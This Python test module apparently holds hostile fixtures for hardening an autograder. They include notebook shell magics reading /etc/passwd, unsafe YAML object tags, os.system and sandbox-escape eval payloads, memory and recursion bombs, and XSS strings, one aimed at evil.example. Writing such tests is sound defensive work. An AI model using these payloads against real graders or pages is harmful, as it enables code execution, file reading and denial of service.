"""Texts: notebooks, answer sheets, and what reaches a page: printed lines, messages, names of classes, lines of code."""

from __future__ import annotations

import json

from bombs import notebook

from submissions import careless
from submissions.form import FULL, RIGHT, STAYS, Control, Hostile

_SHEET = 9.0  # points of the quiz


def _cells(*cells: object) -> str:
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def _code(source: object, **others: object) -> dict[str, object]:
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None, **others}


def _notebook(name: str, data: str | bytes, control: Control, most: float = FULL) -> Hostile:
    return Hostile(name, {"double.ipynb": data}, control, most)


_SCRIPT = {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>alert(1)</script>"}}
NOTEBOOKS = [
    _notebook("a line for the shell", notebook("!cp /etc/passwd .", RIGHT), careless.runs_magics),
    _notebook("a cell for the shell", notebook("%%bash\ntouch /tmp/x", RIGHT), careless.runs_magics),
    _notebook("a file to run", notebook("%run /etc/passwd", RIGHT), careless.runs_magics),
    _notebook("an extension", notebook("%load_ext evil", RIGHT), careless.runs_magics),
    _notebook("a script for the page", notebook("%%javascript\nalert(1)", RIGHT), careless.runs_magics),
    _notebook("the shell by its name", notebook("get_ipython().system('touch /tmp/x')", RIGHT), careless.runs_magics),
    _notebook("a script as output", _cells(_code(RIGHT, outputs=[_SCRIPT])), careless.writes_page),
    _notebook("a script as prose", _cells({"cell_type": "markdown", "source": "<script>alert(1)</script>", "metadata": {}}, _code(RIGHT)), careless.writes_page),
    _notebook("no cells", '{"nbformat": 4}', careless.breaks_on_notebook),
    _notebook("cells that are none", _cells(None, 7, []), careless.breaks_on_notebook),
    _notebook("a source that is none", _cells(_code(7), _code(RIGHT)), careless.breaks_on_notebook),
    _notebook("nested without end", '{"cells": ' + "[" * 100_000, careless.breaks_on_notebook),
    _notebook("not a number", '{"cells": NaN, "nbformat": Infinity}', careless.breaks_on_notebook),
    _notebook("bytes that are no text", b'{"cells": ["\xff\xfe"]}', careless.breaks_on_notebook),
    _notebook("a list", "[]", careless.breaks_on_notebook),
]  # fmt: skip


def _sheet(name: str, text: str | bytes, control: Control, most: float = 0.0) -> Hostile:
    return Hostile(name, {"double.py": RIGHT, "tiny.yaml": text}, control, FULL + most)


_CALL = "!!python/object/apply:submissions.careless.note"
SHEETS = [
    _sheet("a call", f"q1: {_CALL} ['x']\n", careless.loads_any_yaml),
    _sheet("a call as the whole", f"{_CALL} ['x']\n", careless.loads_any_yaml),
    _sheet("a name", "q1: !!python/name:submissions.careless.note\nq2: !!python/object/apply:submissions.careless.note ['x']\n", careless.loads_any_yaml),
    _sheet("aliases that multiply", "".join(f"a{n + 1}: &a{n + 1} [{', '.join([f'*a{n}'] * 9) if n else '1,1,1'}]\n" for n in range(9)), careless.loads_any_yaml),
    _sheet("nested without end", "q1: " + "[" * 50_000, careless.breaks_on_yaml),
    _sheet("bytes that are no text", b"q1: \xff\xfe\x00b\n", careless.breaks_on_yaml),
    _sheet("a tag of nobody's", "q1: !evil x\n", careless.breaks_on_yaml),
    _sheet("an anchor that is not there", "q1: *nowhere\n", careless.breaks_on_yaml),
    _sheet("tabs", "q1:\t- x\n\tq2: y\n", careless.breaks_on_yaml),
    _sheet("a formula that imports", "q5: __import__('os').system('touch /tmp/x')\n", careless.evaluates),
    _sheet("a formula that grows", "q5: 9**9**9**9\n", careless.evaluates),
    _sheet("a formula of brackets", "q5: '" + "(" * 5_000 + "x" + ")" * 5_000 + " if __debug__ else 0'\n", careless.evaluates),
    _sheet("code that opens", "q6: open('/etc/passwd').read()\n", careless.evaluates),
    _sheet("code that loops", "q6: '[0 for a in iter(int, 1)]'\n", careless.evaluates),
    _sheet("code that takes memory", "q6: np.ones(1 << 40)\n", careless.evaluates),
    _sheet("code that climbs", "q6: ().__class__.__base__.__subclasses__()\n", careless.evaluates),
    _sheet("code that calls later", "q6: '(lambda f: f(f))(lambda f: f(f))'\n", careless.evaluates),
    _sheet("not a number", "q3: .nan\n", careless.compares_numbers),
    _sheet("without end", "q3: .inf\n", careless.compares_numbers),
    _sheet("as many digits as fit", "q3: " + "9" * 100_000 + "\n", careless.compares_numbers),
    _sheet("a shape of many numbers", "q4: [" + "3, " * 30_000 + "4]\nq3: 1e9\n", careless.compares_numbers),
    _sheet("a script", "q8: <script>alert(1)</script> sign derivative\n", careless.writes_page, 1.0),
]  # fmt: skip


_MARKUP = {
    "a script": "<script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "a drawing": "<svg/onload=alert(1)>",
    "the end of a style": "</style></pre></details><iframe src=javascript:alert(1)>",
    "a link": "<a href='javascript:alert(1)'>x</a>",
    "the end of a comment": "--><img src=x onerror=alert(1)>",
    "a base": "<base href='https://evil.example/'><form action=//evil.example>",
}


def _shown(name: str, source: str) -> Hostile:
    return Hostile(name, {"double.py": "import numpy as np\n" + source}, careless.writes_page, STAYS)


PAGES = [
    *(_shown(f"prints {name}", f"def double(x):\n    print({text!r})\n    return 0\ntriple = double\n") for name, text in _MARKUP.items()),
    *(_shown(f"raises {name}", f"def double(x):\n    raise ValueError({text!r})  # {text}\ntriple = double\n") for name, text in _MARKUP.items()),
    _shown("a class's name", "def double(x):\n    raise type('<script>alert(1)</script>', (Exception,), {})('x')\ntriple = double\n"),
    _shown("a returned text", "def double(x):\n    return '<script>alert(1)</script>'\ntriple = double\n"),
    _shown("a returned key", "def double(x):\n    return {'<script>alert(1)</script>': 1}\ntriple = double\n"),
    _shown("an error of syntax", "def double(x)  # <script>alert(1)</script>\n"),
    _shown("a module that is not there", "import importlib; importlib.import_module('<script>alert(1)</script>')\n"),
]  # fmt: skip
